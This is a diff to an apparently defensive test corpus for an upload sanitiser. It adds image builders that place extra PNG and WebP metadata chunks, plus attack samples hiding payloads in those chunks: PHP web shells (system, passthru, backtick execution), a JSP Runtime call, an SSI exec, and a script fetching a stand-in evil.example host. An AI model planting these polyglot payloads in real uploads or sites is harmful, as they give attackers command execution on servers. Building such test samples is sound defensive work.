@@ -110,6 +110,23 @@ def png_with_text(text: bytes) -> bytes:
     return png[:33] + png_chunk(b"tEXt", b"Comment\0" + text) + png[33:]  # after IHDR
 
 
+def _srgb_profile() -> bytes:
+    from PIL import ImageCms
+
+    profile: bytes = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    return profile
+
+
+def _exif(orientation: int = 1, gps: bool = True) -> bytes:
+    """EXIF as a phone writes it: an orientation and (by default) where the photo was taken."""
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    exif[0x010F] = "PhoneMaker"
+    if gps:
+        exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
+    return exif.tobytes()
+
+
 def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
     """A few KiB that claim 400 megapixels: rows of zeros compress to almost nothing."""
     ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
@@ -118,6 +135,26 @@ def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
     idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
     return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) \
         + png_chunk(b"IEND", b"")
+
+
+def png_with_chunk(kind: bytes, data: bytes) -> bytes:
+    png = image("PNG")
+    return png[:33] + png_chunk(kind, data) + png[33:]  # after IHDR
+
+
+def webp_with_chunk(kind: bytes, data: bytes) -> bytes:
+    """A WebP with an extra RIFF chunk after the image (EXIF, XMP or one of no meaning)."""
+    webp = image("WEBP")
+    chunk = kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) & 1)
+    body = webp[12:] + chunk
+    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
+
+
+def png_with_xmp() -> bytes:
+    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+           b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>'
+           b'<?xpacket end="w"?>')
+    return png_with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp)
 
 
 def jpeg_with_comment(comment: bytes) -> bytes:
@@ -316,6 +353,26 @@ ATTACKS: list[Sample] = [
            lambda: png_with_text(b"<?php eval($_POST['x']); ?>"), "polyglot"),
     Sample("JPEG with script in its comment", A, "a.jpg", "image/jpeg",
            lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot"),
+    # Script hidden in every kind of metadata: private and unknown chunks, compressed text.
+    Sample("PHP in a private PNG chunk", A, "a.png", "image/png",
+           lambda: png_with_chunk(b"phPp", b"<?php system($_GET['c']); ?>"), "polyglot"),
+    Sample("ASP in an unknown PNG chunk", A, "a.png", "image/png",
+           lambda: png_with_chunk(b"ruNs", b"<%@ Page Language=\"C#\" %>"), "polyglot"),
+    Sample("script in a compressed PNG zTXt chunk", A, "a.png", "image/png",
+           lambda: png_with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(
+               b"<script>fetch('//evil.example')</script>")), "polyglot"),
+    Sample("PHP in a compressed PNG iTXt chunk", A, "a.png", "image/png",
+           lambda: png_with_chunk(b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(
+               b"<?= `id` ?>")), "polyglot"),
+    Sample("JSP in a compressed PNG ICC profile", A, "a.png", "image/png",
+           lambda: png_with_chunk(b"iCCP", b"icc\0\0" + zlib.compress(
+               b"<jsp:scriptlet>Runtime.getRuntime()</jsp:scriptlet>")), "polyglot"),
+    Sample("PHP in a WebP EXIF chunk", A, "a.webp", "image/webp",
+           lambda: webp_with_chunk(b"EXIF", b"<?php passthru($_GET[0]); ?>"), "polyglot"),
+    Sample("HTML in an unknown WebP chunk", A, "a.webp", "image/webp",
+           lambda: webp_with_chunk(b"ZZZZ", b"<html><body onload=alert(1)>"), "polyglot"),
+    Sample("server-side include in a JPEG comment", A, "a.jpg", "image/jpeg",
+           lambda: jpeg_with_comment(b'<!--#exec cmd="id" -->'), "polyglot"),
     Sample("PDF with a ZIP after %%EOF", D, "a.pdf", "application/pdf",
            lambda: reportlab_pdf() + zip_of({"x.exe": PE}), "polyglot"),
     # Bombs and broken files.
@@ -470,6 +527,11 @@ BENIGN: list[Sample] = [
            None),
     Sample("CSV with formulas in a neutralizing profile", "sheet", "a.csv", "text/csv",
            lambda: csv_rows("a,b", "=1+1,2"), None),
+    Sample("PNG with XMP metadata", A, "photo.png", "image/png", png_with_xmp, None),
+    Sample("PNG with an ICC profile", A, "photo.png", "image/png",
+           lambda: image("PNG", icc_profile=_srgb_profile()), None),
+    Sample("JPEG with EXIF", A, "photo.jpg", "image/jpeg",
+           lambda: image("JPEG", exif=_exif(orientation=6)), None),
     Sample("semicolon CSV with decimal commas", D, "ledger.csv", "text/csv",
            lambda: csv_rows("item;amount", "refund;-12,50", "fee;+3", '"rate";"-1,5"'), None),
     Sample("CSV with a 300 KiB field", D, "notes.csv", "text/csv",
